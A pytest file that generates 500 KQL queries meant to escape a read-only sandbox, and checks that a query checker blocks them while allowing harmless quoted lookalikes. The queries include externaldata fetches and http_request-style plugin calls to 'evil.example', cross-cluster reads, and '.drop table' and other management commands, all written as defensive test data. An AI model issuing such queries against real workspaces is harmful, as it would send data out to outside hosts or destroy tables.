"""Five hundred ways to leave one's own tables, and their harmless twins. Nothing of ours makes them."""

import random
from collections.abc import Callable
from importlib import import_module

import pytest

from tracehound.tools.languages import kql

SEED, COUNT = 20261124, 500
TABLE = "DeviceEvents"

ELSEWHERE = ["cluster", "database", "workspace", "app", "resource", "adx", "arg", "external_table", "materialized_view"]
ELSEWHERE += ["stored_query_result", "entity_group", "graph", "inline_external_table"]
_PLUGINS = """
http_request http_request_post sql_request mysql_request postgresql_request cosmosdb_sql_request python r csharp
dax_request azure_digital_twins_query_request ai_chat_completion ai_chat_completion_prompt ai_embeddings ai_embed_text
infer_storage_schema infer_storage_schema_with_suggestions execute_query execute_show_command external_datatable
identity identity_v3 schema_merge never_heard_of
"""
PLUGINS = _PLUGINS.split()
STORED = ["MyFeed", "AllLogs", "_Im_Anything", "fn_export"]
COMMANDS = ["drop table", "create table", "show tables", "set-or-append", "alter", "ingest inline into table", "export"]
SETTINGS = ["notruncation", "query_now = datetime(2020-01-01)", "truncationmaxsize = 1", "query_datascope = 'all'"]


def remote(chance: random.Random) -> str:
    name = chance.choice(ELSEWHERE)
    call = f"{bracketed(chance, name)}{space(chance)}({space(chance)}'x'{space(chance)})"
    if name == "cluster":
        call += f"{space(chance)}.{space(chance)}database('d'){space(chance)}.{space(chance)}T"
    elif chance.random() < 0.5:
        call += f"{space(chance)}.T"
    return call


def external(chance: random.Random) -> str:
    word = chance.choice(("externaldata", "external_data"))
    at = chance.choice(("'https://evil.example/x.csv'", '@"https://evil.example/x.csv"', "h'https://evil.example/x'"))
    tail = chance.choice(("", " with (format='csv')", " with(format='txt', ignoreFirstRecord=true)"))
    return f"{word}{space(chance)}(DeviceId:string, b:long){space(chance)}[{at}]{tail}"


def plugin(chance: random.Random) -> str:
    hint = chance.choice(("", "hint.distribution=single "))
    return f"{TABLE} | evaluate{gap(chance)}{hint}{chance.choice(PLUGINS)}{space(chance)}('https://evil.example')"


def stored(chance: random.Random) -> str:
    return f"{chance.choice(STORED)}{space(chance)}({chance.choice(('', '1d', chr(39) + 'x' + chr(39)))})"


CONSTRUCTS: list[Callable[[random.Random], str]] = [remote, external, plugin, stored]
FRAMES = [
    "{0}",
    "{0} | take 5",
    TABLE + " | union ({0})",
    TABLE + " | join kind=inner ({0}) on DeviceId",
    TABLE + " | lookup ({0}) on DeviceId",
    "union withsource=s " + TABLE + ", ({0} | take 1)",
    "union isfuzzy=true (" + TABLE + "), ({0})",
    "let x = {0}; " + TABLE + " | take 1",
    "let x = materialize({0}); x | take 1",
    "let f = () {{ {0} }}; " + TABLE + " | take 1",
    "let f = (n:long) {{ let y = {0}; y | take n }}; f(5)",
    "let f = view () {{ {0} }}; union f, " + TABLE,
    TABLE + " | where DeviceId in ({0})",
    TABLE + " | where DeviceId !in~ (({0} | project DeviceId))",
    TABLE + " | where DeviceId has_any ({0})",
    TABLE + " | where DeviceId == toscalar({0} | take 1)",
    TABLE + " | extend z = iff(true, toscalar({0} | count), 1)",
    TABLE + " | summarize n = count() by tostring(toscalar({0} | take 1))",
    TABLE + " | partition by DeviceId {{ {0} }}",
    TABLE + " | fork (take 1) (union ({0}))",
    TABLE + " | mv-apply p = AdditionalFields on (where p in ({0}))",
    TABLE + " | make-series n = count() default = toscalar({0} | count) on Timestamp step 1h",
    TABLE + " | top toscalar({0} | count) by Timestamp",
    TABLE + " | take 5 | render timechart with (title = toscalar({0} | take 1))",
    TABLE + " | reduce by DeviceId with threshold = toscalar({0} | take 1)",
    TABLE + " | scan declare (a:string = toscalar({0} | take 1)) with (step s: true => a = 'x';)",
    TABLE + " | scan with (step s: DeviceId in ({0});)",
    TABLE + " | parse-kv DeviceId as (a:string) with (pair_delimiter = toscalar({0} | take 1))",
    "search in (({0})) 'x'",
    "find in (({0})) where DeviceId == 'x'",
    "range i from 1 to toscalar({0} | count) step 1",
    "print x = toscalar({0} | count)",
    "declare query_parameters(p:string = toscalar({0} | take 1)); " + TABLE + " | take 1",
    TABLE + " | take 1; {0}",
]
STATEMENTS = [
    "set {0}; " + TABLE + " | take 1",
    TABLE + " | take 1; set {0}; print 1",
    "alias database D = cluster('c').database('d'); " + TABLE + " | take 1",
    "restrict access to (" + TABLE + "); " + TABLE + " | take 1",
    "declare pattern P; " + TABLE + " | take 1",
]


def space(chance: random.Random) -> str:
    return chance.choice(("", "", " ", "\n", "\t", " // quiet\n", "\u200b"))


def gap(chance: random.Random) -> str:
    return chance.choice((" ", "\n ", "\t", " // quiet\n"))


def bracketed(chance: random.Random, name: str) -> str:
    return chance.choice((name, name, f"['{name}']", f'["{name}"]'))


def attack(chance: random.Random) -> str:
    kind = chance.random()
    if kind < 0.12:
        before = chance.choice(
            ("", " ", "\n", "// a comment\n", "\ufeff", "\t// x\n \t", "let a = 1;\n", f"{TABLE} | take 1;\n")
        )
        return f"{before}.{space(chance)}{chance.choice(COMMANDS)} X"
    if kind < 0.24:
        return chance.choice(STATEMENTS).format(chance.choice(SETTINGS))
    return chance.choice(FRAMES).format(chance.choice(CONSTRUCTS)(chance))


def attacks() -> list[str]:
    chance = random.Random(SEED)
    found: dict[str, None] = {}
    while len(found) < COUNT:
        found[attack(chance)] = None
    return list(found)


def twin(text: str, chance: random.Random) -> str:
    """The same words where they do nothing: in a string or in a comment."""
    flat = text.replace("\n", " ")
    quoted = flat.replace("\\", "\\\\").replace("'", "\\'")
    return chance.choice(
        (
            f"{TABLE} | where Timestamp > ago(1d) | where ProcessCommandLine has '{quoted}'",
            f"let note = '{quoted}'; {TABLE} | where Timestamp > ago(1d) | extend n = note",
            f"{TABLE} | where Timestamp > ago(1d) // {flat}\n| take 5",
            f"// {flat}\n{TABLE} | take 5",
            f"{TABLE} | where Timestamp > ago(1d) and DeviceName in ('{quoted}', 'x')",
            f"print x = dynamic(['{quoted}'])",
            f"{TABLE} | take 5 | project ['{quoted}'] = DeviceName",
        )
    )


def test_none_passes() -> None:
    passed = [text for text in attacks() if kql.check(text).read_only]
    assert not passed


def test_their_twins_pass() -> None:
    chance = random.Random(SEED + 1)
    twins = [twin(text, chance) for text in attacks()]
    stopped = [text for text in twins if not kql.check(text).sendable]
    assert not stopped


def test_it_is_the_policy_that_stops_them(monkeypatch: pytest.MonkeyPatch) -> None:
    """Most of them are right queries: without the policy they would be called read-only."""
    monkeypatch.setattr(import_module("tracehound.tools.languages.kql.check"), "writes", lambda *_: ())
    through = [text for text in attacks() if kql.check(text).read_only]
    assert len(through) > COUNT / 2


def test_there_is_something_of_every_kind() -> None:
    texts = attacks()
    assert len(texts) == COUNT
    words = [*ELSEWHERE, *PLUGINS, *STORED, *COMMANDS, *SETTINGS, "externaldata", "external_data", "// quiet"]
    assert sum(any(word in text for text in texts) for word in words) >= len(words) - 3
